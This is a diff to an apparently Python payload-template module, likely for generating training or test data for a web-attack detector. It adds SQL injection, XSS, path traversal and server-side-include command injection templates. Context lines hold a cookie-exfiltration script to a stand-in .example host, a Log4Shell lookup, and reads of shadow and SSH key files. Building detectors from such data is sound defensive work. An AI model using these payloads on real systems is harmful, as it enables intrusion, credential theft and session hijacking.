@@ -2,7 +2,8 @@
 
 Braces are filled in: {w} a word, {W} one with a capital, {n} a number, {m} a smaller one, {d} a
 digit, {l} a letter, {q} a quote, {c} what comments the rest out, {s} what parts two commands,
-{x} a command, {up} steps out of a folder, {nulls} columns, {p} a person, {y} a year, and tokens.
+{x} a command, {up} steps out of a folder, {nulls} columns, {p} a person, {y} a year, {b} what ends
+a string and the brackets around it, and tokens.
 """
 
 # fmt: off
@@ -80,6 +81,13 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "{n} and (select count(*) from {w})>{m}", "{w}{q};select {n}{c}",
         "{n}) and {n}={n} and ({m}={m}", "{w}{q} and {n}=cast((select {w}) as int){c}",
         "{n}\")) or {m}={m}{c}",
+        "-{n}{b} union all select {nulls}{c}", "-{n}{b} where {n}={n} or {n}={m}{c}", "{n}{b} and {n}={n}{c}",
+        "-{n}{b} or {n}={n}{c}", "{n}{b} where {n}={n} union all select {nulls}{c}", "{n}{b} and elt({n}={n},{n}){c}",
+        "-{n}{b} as {w} where {n}={n} or {n}={m}{c}", "{n}{b} as {w} where {m}={m} and {n}={n}{c}", "{n}{b} order by {m}{c}",
+        "{n}{b} or make_set({n}={m},{n}){c}", "{n}{b} in boolean mode) union all select {nulls}{c}", "{n}{b} rlike sleep({d}){c}",
+        "{n}{b};select case when {n}={m} then 1 else null end{c}", "(select case when {n}={m} then {n} else {n}*(select {n} from {w}) end)",
+        "{n}{b}+(select {w} where {n}={n} union all select {n},{n}{c}", "1,(case when {n}={n} then 1 else null end)", "{b} or {d}={d}{c}",
+        "{w}{b} and {w} is null; --", "{d} or {d}={d}", "select {w}();", "select * from {w}", "{b} waitfor delay {q}0:0:{d}{q}{c}",
     ),
     "xss": (
         "<script>alert({n})</script>", "\"><script>alert({q}{w}{q})</script>",
@@ -94,6 +102,15 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "<marquee onstart=alert({n})>", "<object data=javascript:alert({n})>",
         "<script>document.location={q}http://{w}.example/?{q}+document.cookie</script>",
         "&#60;script&#62;alert({n})&#60;/script&#62;", "<math href=javascript:alert({n})>{w}",
+        "<form><button formaction=//{w}.example>{w}", "<link rel=import href=//{w}.example>", "<link rel=stylesheet href=javascript:{w}>",
+        "<embed src={q}http://{w}.example/{w}.swf{q} allowscriptaccess=always>", "data:text/html;base64,{b64}", "<x {w}=1 onclick={w}>{w}",
+        "<embed src=data:image/svg+xml;base64,{b64}>", "<object data=data:text/html;base64,{b64}></object>", "<base href=//{w}.example/>",
+        "<style>@import{q}//{w}.example/{w}.css{q};</style>", "<div style=\"{w}:expression({w}({n}))\">", "<frameset onload={w}={n}>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:{w}({n})\">", "<a href=\"http://0x{hex6}/\">{w}</a>", "<a href=//{n}{n}>{w}</a>",
+        "<svg><script>alert&lpar;{n}&rpar;", "<svg><animate onbegin={w}({n}) attributename=x>", "&lt;script&gt;alert({n})&lt;/script&gt;",
+        "&#x3c;script&#x3e;{w}", "<table background=javascript:{w}({n})>", "\" style=\"{w}:{w}\" on{w}={w} \"", "<?xml-stylesheet href=javascript:{w}({n})?>",
+        "<select autofocus onfocus={w}>", "{q};alert(string.fromcharcode({n},{m}))//", "+adw-script+ad4-{w}({n})", "<bgsound src=javascript:{w}>",
+        "<math><a xlink:href=//{w}.example>{w}", "<xss style=behavior:url({w}.htc)>", "<script>{w}</script", "<b onmouseover={w}({n})>{w}</b>",
     ),
     "path_traversal": (
         "{up}etc/passwd", "{up}etc/shadow", "{up}etc/hosts", "{up}windows/win.ini",
@@ -102,7 +119,7 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "file:///etc/passwd", "php://filter/convert.base64-encode/resource={w}.php",
         "{up}{w}.php", "{up}web.config", "{up}.env", "{up}.ssh/id_rsa", "/{w}/{up}etc/issue",
         "c:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/cmdline", "{up}wp-config.php",
-        "{up}root/.bash_history", "{up}usr/local/{w}", "/etc/shadow", "{w}{up}etc/passwd",
+        "/./{up}{w}", "{up}{w}", "{up}{w}.{w}", "{w}/{up}{w}/{w}", "{up}root/.bash_history", "{up}usr/local/{w}", "/etc/shadow", "{w}{up}etc/passwd",
     ),
     "cmdi": (
         "localhost{s}{x}", "192.168.{d}.{m}{s}{x}", "{{{{{d}*{d}}}}}", "${{{n}*{m}}}", "#{{{n}*{d}}}", "<%= {d}*{d} %>",
@@ -114,6 +131,7 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "${{jndi:ldap://{w}.example/{w}}}", "${{${{lower:j}}ndi:rmi://{w}.example:{n}/{w}}}",
         "system({q}{x}{q})", "exec({q}{x}{q})", "() {{ :; }}; {x}",
         "__import__({q}os{q}).popen({q}{x}{q}).read()", "{w}\n{x}",
+        "<!--#exec cmd={q}{x}{q} -->", "<!--#include virtual={q}/{w}{q} -->",
     ),
 }
 COMMANDS = (
